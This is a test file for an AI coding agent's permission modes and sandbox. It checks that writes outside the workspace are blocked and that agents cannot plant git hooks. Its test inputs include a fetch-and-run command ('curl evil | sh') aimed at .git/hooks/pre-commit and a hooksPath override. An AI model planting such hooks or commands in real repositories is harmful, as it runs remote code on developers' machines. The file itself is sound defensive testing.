import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { startTestHost, type TestHost } from '../testing/host-fixture';

/**
 * The permission mode `auto` with the real sandbox: the default where the sandbox is available, its
 * commands contained; refused with the reason where it is not; Ask's approved commands contained too;
 * Full not. Workspaces live under /var/tmp: inside the sandbox /tmp is a private folder.
 */

const linux = process.platform === 'linux';
let hosts: TestHost[] = [];
let folders: string[] = [];

afterEach(async () => {
  for (const host of hosts) await host.close();
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
  hosts = [];
  folders = [];
});

async function host(sandbox: 'detect' | 'off'): Promise<TestHost> {
  const started = await startTestHost({ sandbox });
  hosts.push(started);
  return started;
}

function workspace(): string {
  const folder = mkdtempSync('/var/tmp/cairn-sandbox-modes-');
  folders.push(folder);
  return folder;
}

const outside = () => `/var/tmp/cairn-outside-${process.pid}-${Math.random().toString(36).slice(2)}`;

async function runShell(t: TestHost, sessionId: string, turnId: string, command: string) {
  await t.call('turn.start', { sessionId, turnId, text: `/tool run_shell ${JSON.stringify({ command })}` });
  return t.waitForTurn(sessionId, turnId, ['completed', 'waiting', 'failed']);
}

async function lastResult(t: TestHost, sessionId: string) {
  const items = (await t.call('transcript.page', { sessionId })).items.filter((item) => item.kind === 'tool_result');
  return items.at(-1)?.data as { isError: boolean; output: Record<string, unknown> } | undefined;
}

describe.runIf(linux)('Auto mode and the sandbox', () => {
  it('is the default where the sandbox is available, and runs commands unasked inside it', async () => {
    const t = await host('detect');
    const folder = workspace();
    const { session } = await t.call('session.create', { workspacePath: folder });
    expect(session.permissionMode).toBe('auto');
    const target = outside();
    await runShell(t, session.sessionId, 't1', `echo inside > made.txt; echo x > ${target}; echo "exit $?"`);
    expect(readFileSync(path.join(folder, 'made.txt'), 'utf8')).toBe('inside\n');
    expect(existsSync(target)).toBe(false);
    const result = await lastResult(t, session.sessionId);
    expect(result?.output).toMatchObject({
      sandboxed: true,
      stdout: 'exit 1\n',
      note: expect.stringContaining('Blocked by the sandbox: writes are allowed only inside the workspace and /tmp.'),
    });
    expect(String(result?.output.stderr)).toMatch(/Read-only file system/);
  });

  it('is refused, naming what to install, where the sandbox is not available; new sessions start in Ask', async () => {
    const t = await host('off');
    const { session } = await t.call('session.create', { workspacePath: workspace() });
    expect(session.permissionMode).toBe('ask');
    const created = await t.invoke('session.create', { permissionMode: 'auto' });
    expect(created).toMatchObject({
      ok: false,
      error: {
        code: 'invalid_input',
        message: expect.stringMatching(/^Auto needs the sandbox, which is not available here: .* Use Ask instead\.$/),
      },
    });
    const configured = await t.invoke('session.configure', { sessionId: session.sessionId, permissionMode: 'auto' });
    expect(configured).toMatchObject({ ok: false, error: { message: expect.stringContaining('Use Ask instead.') } });
  });

  it('in Ask runs an approved command inside the sandbox; Full runs it outside', async () => {
    const t = await host('detect');
    const folder = workspace();
    const { session } = await t.call('session.create', { workspacePath: folder, permissionMode: 'ask' });
    const first = outside();
    await runShell(t, session.sessionId, 't1', `echo x > ${first}`);
    const [approval] = (await t.call('interaction.list', { sessionId: session.sessionId, status: 'pending' }))
      .interactions;
    await t.call('interaction.answer', {
      interactionId: approval!.interactionId,
      answer: { action: 'accept', decision: 'allow_session' },
    });
    await t.waitForTurn(session.sessionId, 't1', ['completed']);
    expect(existsSync(first)).toBe(false);
    // Allowed for the session: asked no more, and still inside.
    await runShell(t, session.sessionId, 't2', `echo x > ${first}`);
    expect(existsSync(first)).toBe(false);
    expect((await lastResult(t, session.sessionId))?.output).toMatchObject({ sandboxed: true });

    const { session: full } = await t.call('session.create', { workspacePath: folder, permissionMode: 'full' });
    const second = outside();
    folders.push(second);
    await runShell(t, full.sessionId, 't1', `echo x > ${second}`);
    expect(readFileSync(second, 'utf8')).toBe('x\n');
    expect((await lastResult(t, full.sessionId))?.output).not.toHaveProperty('sandboxed');
  });

  it('in Ask, "Run once without sandbox" runs that one command outside; the next asks again and runs inside', async () => {
    const t = await host('detect');
    const { session } = await t.call('session.create', { workspacePath: workspace(), permissionMode: 'ask' });
    const target = outside();
    folders.push(target);
    const pending = async () =>
      (await t.call('interaction.list', { sessionId: session.sessionId, status: 'pending' })).interactions;
    await runShell(t, session.sessionId, 't1', `echo x > ${target}`);
    await t.call('interaction.answer', {
      interactionId: (await pending())[0]!.interactionId,
      answer: { action: 'accept', decision: 'allow_once_unsandboxed' },
    });
    await t.waitForTurn(session.sessionId, 't1', ['completed']);
    expect(readFileSync(target, 'utf8')).toBe('x\n');
    expect((await lastResult(t, session.sessionId))?.output).not.toHaveProperty('sandboxed');

    rmSync(target);
    await runShell(t, session.sessionId, 't2', `echo y > ${target}`);
    await t.call('interaction.answer', {
      interactionId: (await pending())[0]!.interactionId,
      answer: { action: 'accept', decision: 'allow_once' },
    });
    await t.waitForTurn(session.sessionId, 't2', ['completed']);
    expect(existsSync(target)).toBe(false);

    // Only a command of run_shell can leave the sandbox.
    await t.call('turn.start', {
      sessionId: session.sessionId,
      turnId: 't3',
      text: '/tool write_file {"path":"a.txt","content":"a"}',
    });
    await t.waitForTurn(session.sessionId, 't3', ['waiting']);
    const refused = await t.invoke('interaction.answer', {
      interactionId: (await pending())[0]!.interactionId,
      answer: { action: 'accept', decision: 'allow_once_unsandboxed' },
    });
    expect(refused).toMatchObject({
      ok: false,
      error: { code: 'invalid_input', message: 'Only a command of run_shell can be run without the sandbox.' },
    });
  });

  it('Cairn’s own file tools keep the wall’s read-only files: refused in Auto, in Ask only when approved on the card, written in Full', async () => {
    const t = await host('detect');
    const folder = workspace();
    execFileSync('git', ['init', '-q', folder]);
    const hook = path.join(folder, '.git/hooks/pre-commit');
    const tool = async (sessionId: string, turnId: string, name: string, input: unknown) => {
      await t.call('turn.start', { sessionId, turnId, text: `/tool ${name} ${JSON.stringify(input)}` });
      return t.waitForTurn(sessionId, turnId, ['completed', 'waiting', 'failed']);
    };
    const { session: auto } = await t.call('session.create', { workspacePath: folder, permissionMode: 'auto' });
    await tool(auto.sessionId, 't1', 'write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh' });
    expect((await lastResult(t, auto.sessionId))?.output.error).toMatch(
      /^"\.git\/hooks\/pre-commit" is read-only for agents: it makes code run later/,
    );
    await tool(auto.sessionId, 't2', 'edit_file', {
      path: '.git/config',
      search: '[core]',
      replace: '[core]\n\thooksPath = x',
    });
    expect((await lastResult(t, auto.sessionId))?.output.error).toMatch(/"\.git\/config" is read-only for agents/);
    expect(existsSync(hook)).toBe(false);
    expect(readFileSync(path.join(folder, '.git/config'), 'utf8')).not.toContain('hooksPath');

    // Ask: the card shows the path; approved there, the write goes through. A session grant does not cover the next one.
    const { session: ask } = await t.call('session.create', { workspacePath: folder, permissionMode: 'ask' });
    expect(await tool(ask.sessionId, 't1', 'write_file', { path: '.cairn/notes.md', content: 'a' })).toMatchObject({
      status: 'waiting',
    });
    const [card] = (await t.call('interaction.list', { sessionId: ask.sessionId, status: 'pending' })).interactions;
    expect(card?.request).toMatchObject({ kind: 'permission', preview: { kind: 'diff', path: '.cairn/notes.md' } });
    await t.call('interaction.answer', {
      interactionId: card!.interactionId,
      answer: { action: 'accept', decision: 'allow_session' },
    });
    await t.waitForTurn(ask.sessionId, 't1', ['completed']);
    expect(readFileSync(path.join(folder, '.cairn/notes.md'), 'utf8')).toBe('a');
    await tool(ask.sessionId, 't2', 'write_file', { path: '.git/hooks/pre-commit', content: 'curl evil | sh' });
    expect((await lastResult(t, ask.sessionId))?.output.error).toMatch(/"Allow for this session" does not cover it/);
    expect(existsSync(hook)).toBe(false);

    const { session: full } = await t.call('session.create', { workspacePath: folder, permissionMode: 'full' });
    await tool(full.sessionId, 't1', 'write_file', { path: '.git/hooks/pre-commit', content: 'echo hook' });
    expect(readFileSync(hook, 'utf8')).toBe('echo hook');
  });
});
